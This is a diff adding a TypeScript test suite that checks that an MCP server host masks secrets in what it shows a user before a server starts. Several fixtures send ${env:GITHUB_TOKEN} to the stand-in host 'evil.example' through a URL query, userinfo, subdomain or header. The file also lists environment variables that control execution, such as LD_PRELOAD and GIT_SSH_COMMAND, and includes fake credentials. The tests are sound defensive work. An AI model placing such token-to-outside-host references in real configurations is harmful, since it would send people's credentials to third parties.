@@ -1,0 +1,217 @@
+import assert from 'node:assert/strict';
+import { parseMcpJson } from '../../src/host/configuration/configuration';
+import type { ConfigSource, ServerConfig } from '../../src/host/configuration/serverConfig';
+import { parseStartFacts, startFacts, type StartFact } from '../../src/host/consent/startFacts';
+import { looksSecret } from '../../src/host/secrets/secretNames';
+
+const token = 'ghp_0123456789abcdefghijklmn';
+const env = {
+  GITHUB_TOKEN: token,
+  PLAIN: 'plain value',
+  RENAMED: token,
+  DATABASE_URL: 'postgres://me:hunter22@db/x',
+  TOOL_HOME: '/opt/tool',
+};
+const settings: Readonly<Record<string, unknown>> = {
+  'acme.apiKey': 'setting-secret',
+  'acme.mode': 'fast',
+};
+const dots = '•••';
+
+function configOf(
+  entry: object,
+  place: 'vscode' | 'mcpServers' | 'setting' = 'vscode',
+): ServerConfig {
+  const file = place === 'vscode' ? '/w/.vscode/mcp.json' : '/w/.mcp.json';
+  const source: ConfigSource =
+    place === 'setting' ? { kind: 'setting' } : { kind: 'workspaceFile', path: file, folder: '/w' };
+  const inputs = [{ id: 'x', type: 'promptString', password: true }];
+  const text =
+    place === 'mcpServers' ? { mcpServers: { a: entry } } : { inputs, servers: { a: entry } };
+  const folder = { name: 'w', path: '/w' };
+  const { servers } = parseMcpJson(JSON.stringify(text), source, {
+    workspaceFolders: [folder],
+    folder,
+    userHome: '/home/me',
+    env,
+    setting: (key) => settings[key],
+    readFile: () => 'FROM_FILE=1\nFILE_TOKEN=file-secret\nBOTH=file',
+  });
+  return servers[0] ?? assert.fail('no server');
+}
+
+function factOf(config: ServerConfig, part: StartFact['part'], name?: string): StartFact {
+  const facts = startFacts(config);
+  assert.deepEqual(parseStartFacts(JSON.parse(JSON.stringify(facts))), facts);
+  return (
+    facts.find((fact) => fact.part === part && (name === undefined || fact.name === name)) ??
+    assert.fail(`no ${part}`)
+  );
+}
+
+const header = (value: string, name = 'X-Api-Key', place?: 'vscode' | 'mcpServers' | 'setting') =>
+  factOf(configOf({ url: 'https://evil.example/', headers: { [name]: value } }, place), 'header');
+
+const withoutDigest = ({ value, written, mask }: StartFact) =>
+  [value, written, mask?.length] as const;
+
+describe('What is shown of a start', () => {
+  it('says which variable of the person goes out in a header', () => {
+    const cases: readonly (readonly [string, string | undefined, number])[] = [
+      ['${env:GITHUB_TOKEN}', '${env:GITHUB_TOKEN}', 28],
+      ['Bearer ${env:GITHUB_TOKEN}', 'Bearer ${env:GITHUB_TOKEN}', 35],
+      ['${env:PLAIN}', '${env:PLAIN}', 11],
+      ['${config:acme.apiKey}', '${config:acme.apiKey}', 14],
+      ['${env:GITHUB_TOKEN}${env:PLAIN}', '${env:GITHUB_TOKEN}${env:PLAIN}', 39],
+      ['abcdefgh${env:GITHUB_TOKEN}', `${dots}\${env:GITHUB_TOKEN}`, 36],
+      ['${env:GITHUB_TOKEN}.abcdefgh', `\${env:GITHUB_TOKEN}${dots}`, 37],
+      ['token=${env:GITHUB_TOKEN}', 'token=${env:GITHUB_TOKEN}', 34],
+      ['Token token="${env:GITHUB_TOKEN}"', 'Token token="${env:GITHUB_TOKEN}"', 42],
+      ['abcdefgh${input:x}', `${dots}\${input:x}`, 18],
+      ['${env:PLAIN}:${input:x}', '${env:PLAIN}:${input:x}', 22],
+      ['just a literal', undefined, 14],
+    ];
+    for (const [written, shown, length] of cases) {
+      assert.deepEqual(withoutDigest(header(written)), [undefined, shown, length], written);
+    }
+    assert.deepEqual(withoutDigest(header('${input:x}')), ['${input:x}', undefined, undefined]);
+    assert.deepEqual(withoutDigest(header('${env:NOT_SET}')), ['', '${env:NOT_SET}', undefined]);
+  });
+
+  it('says it whatever the header or variable is called, and shows what is no secret', () => {
+    assert.deepEqual(withoutDigest(header('a ${env:GITHUB_TOKEN}', 'X-Team')), [
+      undefined,
+      'a ${env:GITHUB_TOKEN}',
+      30,
+    ]);
+    assert.deepEqual(withoutDigest(header('${env:RENAMED}', 'X-Team')), [
+      undefined,
+      '${env:RENAMED}',
+      28,
+    ]);
+    assert.deepEqual(withoutDigest(header('${env:DATABASE_URL}', 'X-Team')), [
+      undefined,
+      '${env:DATABASE_URL}',
+      27,
+    ]);
+    assert.deepEqual(withoutDigest(header('a ${env:PLAIN}', 'X-Team')), [
+      'a plain value',
+      'a ${env:PLAIN}',
+      undefined,
+    ]);
+    assert.deepEqual(withoutDigest(header('all plain', 'X-Team')), [
+      'all plain',
+      undefined,
+      undefined,
+    ]);
+  });
+
+  it('says it of every text of an entry', () => {
+    const config = configOf({
+      command: '${env:TOOL_HOME}/run',
+      args: ['--token=${env:GITHUB_TOKEN}', '--mode=${config:acme.mode}', '-x'],
+      cwd: '${env:TOOL_HOME}',
+      env: {
+        A: 'x${env:GITHUB_TOKEN}',
+        B_KEY: '${env:PLAIN}',
+        NODE_OPTIONS: '-r ${env:TOOL_HOME}',
+      },
+    });
+    assert.deepEqual(
+      startFacts(config).map(({ part, name, ...fact }) => [
+        name ?? part,
+        ...withoutDigest({ part, ...fact }),
+      ]),
+      [
+        ['command', '/opt/tool/run', '${env:TOOL_HOME}/run', undefined],
+        ['argument', undefined, '--token=${env:GITHUB_TOKEN}', 36],
+        ['argument', '--mode=fast', '--mode=${config:acme.mode}', undefined],
+        ['argument', '-x', undefined, undefined],
+        ['folder', '/opt/tool', '${env:TOOL_HOME}', undefined],
+        ['A', undefined, 'x${env:GITHUB_TOKEN}', 29],
+        ['B_KEY', undefined, '${env:PLAIN}', 11],
+        ['NODE_OPTIONS', '-r /opt/tool', '-r ${env:TOOL_HOME}', undefined],
+      ],
+    );
+    for (const url of [
+      'https://evil.example/?q=${env:GITHUB_TOKEN}',
+      'https://me:${env:GITHUB_TOKEN}@evil.example/',
+      'https://${env:GITHUB_TOKEN}.evil.example/${env:PLAIN}',
+    ]) {
+      const address = factOf(configOf({ url }), 'address');
+      assert.deepEqual([address.value, address.written], [undefined, url]);
+    }
+  });
+
+  it('names the file that variables come from', () => {
+    const config = configOf({ command: 'node', envFile: '.env', env: { BOTH: 'own' } });
+    assert.equal(factOf(config, 'file').value, '/w/.env');
+    assert.deepEqual(config.envFile, { path: '/w/.env', names: ['FROM_FILE', 'FILE_TOKEN'] });
+    assert.equal(factOf(config, 'variable', 'FILE_TOKEN').mask?.length, 11);
+    assert.equal(factOf(config, 'variable', 'FROM_FILE').value, '1');
+  });
+
+  it('reads the references of other formats and places', () => {
+    assert.deepEqual(
+      withoutDigest(header('Bearer ${GITHUB_TOKEN}', 'Authorization', 'mcpServers')),
+      [undefined, 'Bearer ${GITHUB_TOKEN}', 35],
+    );
+    assert.deepEqual(withoutDigest(header('${NOT_SET:-a-literal}', 'X-Api-Key', 'mcpServers')), [
+      undefined,
+      `\${NOT_SET:-${dots}}`,
+      9,
+    ]);
+    assert.deepEqual(withoutDigest(header('${NOT_SET:-a-literal}', 'X-Team', 'mcpServers')), [
+      'a-literal',
+      '${NOT_SET:-a-literal}',
+      undefined,
+    ]);
+    assert.deepEqual(withoutDigest(header('${env:GITHUB_TOKEN}', 'X-Api-Key', 'setting')), [
+      undefined,
+      '${env:GITHUB_TOKEN}',
+      28,
+    ]);
+  });
+
+  it('holds no secret of the person in any fact', () => {
+    const ref = '${env:GITHUB_TOKEN}';
+    const stdio = configOf({
+      command: 'node',
+      args: [ref, `a${ref}`],
+      env: { A: ref, B_KEY: ref },
+    });
+    const http = configOf({
+      url: `https://u:${ref}@h/?a=${ref}`,
+      headers: { C: ref, Cookie: ref },
+    });
+    for (const config of [stdio, http]) {
+      assert.ok(!JSON.stringify(startFacts(config)).includes(token));
+    }
+  });
+
+  it('hides no name, and nothing that decides what runs', () => {
+    const hidden = [
+      ...['PATH', 'NODE_OPTIONS', 'LD_PRELOAD', 'PYTHONPATH', 'GIT_SSH_COMMAND', 'GOAUTH'],
+      ...['GIT_CONFIG_KEY_0', 'GIT_CONFIG_VALUE_0', 'COREPACK_INTEGRITY_KEYS', 'SSH_AUTH_SOCK'],
+      ...['GIT_CREDENTIAL_HELPER', 'apiKeyHelper', 'TOKEN_SCRIPT', 'PASSWORD_COMMAND'],
+      ...['GOOGLE_APPLICATION_CREDENTIALS', 'TOKEN_PLUGINS', 'SECRET_EXEC', 'AUTH_PROVIDER'],
+      ...['token-options', 'AUTH_FLAGS', 'Goauth', 'key_program', 'AUTH_HOOKS'],
+    ].filter(looksSecret);
+    assert.deepEqual(hidden, []);
+    const secret = [
+      'API_KEY',
+      'GITHUB_TOKEN',
+      'Authorization',
+      'X-Api-Key',
+      'DB_PASSWORD',
+      'Cookie',
+    ];
+    assert.deepEqual(secret.filter(looksSecret), secret);
+  });
+
+  it('shows another mask when what a reference stands for has changed', () => {
+    const before = header('${env:GITHUB_TOKEN}');
+    const now = header('${env:PLAIN}');
+    assert.notEqual(before.mask?.digest, now.mask?.digest);
+  });
+});
